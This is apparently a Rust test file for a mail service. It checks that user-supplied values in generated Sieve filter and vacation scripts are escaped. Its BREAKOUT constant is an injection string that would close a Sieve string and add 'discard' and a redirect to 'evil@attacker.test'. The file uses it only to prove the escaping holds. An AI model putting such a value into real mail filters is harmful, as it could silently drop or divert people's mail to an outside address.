use super::*;
use postern_shared::filters::{check_auto_reply, check_rules};

fn cond(field: RuleField, matches: Match, value: &str) -> Condition {
    Condition {
        field,
        matches,
        header: None,
        value: value.into(),
    }
}

fn rule(conditions: Vec<Condition>, actions: Vec<RuleAction>) -> Rule {
    Rule {
        name: "r".into(),
        enabled: true,
        all: true,
        conditions,
        actions,
    }
}

/// What Sieve would see if a value could end its string.
const BREAKOUT: &str = "x\"; discard; stop; if true { redirect \"evil@attacker.test\"; } #\\";

fn hostile_reply() -> AutoReply {
    AutoReply {
        enabled: true,
        subject: format!("Fuera \"de\" la oficina \\ 休暇 {BREAKOUT}"),
        text: format!(
            "Back on Monday.\r\n{BREAKOUT}\n\ttabbed ${{hex:41}} \\\n{}",
            "é".repeat(300)
        ),
        start: Some("2020-01-01".into()),
        end: Some("2999-12-31".into()),
        days: 3,
    }
}

fn hostile_rules() -> Vec<Rule> {
    let mut header = cond(RuleField::Header, Match::Is, BREAKOUT);
    header.header = Some("X-Mailer".into());
    vec![
        rule(
            vec![cond(RuleField::Subject, Match::Contains, BREAKOUT)],
            vec![RuleAction::Move {
                folder: format!("Sorted \"{BREAKOUT}\" Ünï"),
            }],
        ),
        rule(vec![header], vec![RuleAction::MarkRead, RuleAction::Flag]),
        rule(
            vec![cond(RuleField::Subject, Match::Is, "*")],
            vec![RuleAction::Discard],
        ),
        rule(
            vec![
                cond(RuleField::To, Match::Contains, "${hex:41}"),
                cond(RuleField::Size, Match::Above, "100"),
            ],
            vec![RuleAction::Forward {
                address: "copy@outside.test".into(),
            }],
        ),
    ]
}

#[test]
fn values_are_escaped_and_nothing_breaks_out_of_its_string() {
    let reply = hostile_reply();
    let rules = hostile_rules();
    check_auto_reply(&reply).unwrap();
    check_rules(&rules).unwrap();
    let s = rules_script(&reply, &["box@z.test"], &rules).unwrap();
    // One discard (rule 3's), one redirect (rule 4's): the hostile text
    // added none.
    assert_eq!(
        s.matches("\ndiscard;").count() + s.matches("    discard;").count(),
        1,
        "{s}"
    );
    assert_eq!(s.matches("redirect :copy").count(), 1, "{s}");
    assert!(!s.contains("require [\"copy\", \"date\", \"fileinto\", \"imap4flags\", \"relational\", \"vacation\", \"variables\"]"));
    assert!(
        s.contains(r#"header :contains "subject" "x\"; discard;"#),
        "{s}"
    );
    // Control characters never reach a one-line string.
    assert!(quote("a\nb").is_err());
    assert!(quote_text("a\u{7}b").is_err());
    assert_eq!(quote_text("a\r\nb\tc").unwrap(), "\"a\nb    c\"");
}

#[test]
fn switched_off_parts_write_nothing() {
    let mut reply = hostile_reply();
    reply.enabled = false;
    let mut rules = hostile_rules();
    for r in &mut rules {
        r.enabled = false;
    }
    let s = rules_script(&reply, &[], &rules).unwrap();
    assert!(!s.contains("if "), "{s}");
}

/// How sieve-test reports the two actions the hostile text names.
const DISCARDED: &str = "\n * discard";
const REDIRECTED: &str = "redirect message to";

/// The hostile script compiles with the real Pigeonhole, and `sieve-test`
/// shows it does only what the rules say (skipped without the tools).
#[test]
fn hostile_values_compile_and_do_only_what_the_rules_say_with_real_sieve_test() {
    let Some(tools) = crate::sieve_tools::SieveTools::new("") else {
        return;
    };
    let text = rules_script(&hostile_reply(), &["box@z.test"], &hostile_rules()).unwrap();
    tools.compile("rules", &text);
    if !tools.can_run() {
        return;
    }
    let run = |headers: &str, body: &str| -> String {
        let message =
            format!("From: Sender <sender@outside.test>\nTo: box@z.test\n{headers}\n\n{body}\n");
        tools.run("rules", "sender@outside.test", Some("box@z.test"), &message)
    };
    let probe = run("Subject: nothing", "hi");
    // Nothing matches: the auto-reply, then the implicit keep.
    assert!(probe.contains("send vacation message"), "{probe}");
    assert!(
        probe.contains("Implicit keep:\n\n * store message in folder: INBOX"),
        "{probe}"
    );
    assert!(
        !probe.contains(DISCARDED) && !probe.contains(REDIRECTED),
        "{probe}"
    );
    // The subject holds the hostile value: rule 1 moves it, nothing more.
    let got = run(&format!("Subject: {BREAKOUT}"), "hi");
    assert!(
        got.contains("store message in folder: Sorted \"x\"; discard;"),
        "{got}"
    );
    assert!(
        !got.contains(DISCARDED) && !got.contains(REDIRECTED),
        "{got}"
    );
    // A mailing list: no auto-reply.
    let got = run("Subject: nothing\nList-Id: <list.outside.test>", "hi");
    assert!(!got.contains("vacation"), "{got}");
    let got = run("Subject: nothing\nPrecedence: bulk", "hi");
    assert!(!got.contains("vacation"), "{got}");
    let got = run("Subject: nothing\nX-Spam: Yes", "hi");
    assert!(!got.contains("vacation"), "{got}");
    // Rule 2: the header's exact hostile value marks read and flags.
    let got = run(&format!("Subject: s\nX-Mailer: {BREAKOUT}"), "hi");
    assert!(got.contains("add IMAP flags: \\flagged \\seen"), "{got}");
    // "*" is a character, not a wildcard: rule 3 discards nothing here.
    assert!(!probe.contains(DISCARDED));
    let got = run("Subject: *", "hi");
    assert!(got.contains(DISCARDED), "{got}");
    // Rule 4: "${hex:41}" is literal text, not "A"; both conditions.
    let big = "x".repeat(120 * 1024);
    let got = run("Subject: s\nCc: ${hex:41}@outside.test", &big);
    assert!(
        got.contains("redirect message to: <copy@outside.test>"),
        "{got}"
    );
    assert!(
        got.contains("Implicit keep:\n\n * store message in folder: INBOX"),
        "{got}"
    );
    let got = run("Subject: s\nCc: A@outside.test", &big);
    assert!(!got.contains(REDIRECTED), "{got}");
    let got = run("Subject: s\nCc: ${hex:41}@outside.test", "small");
    assert!(!got.contains(REDIRECTED), "{got}");
}
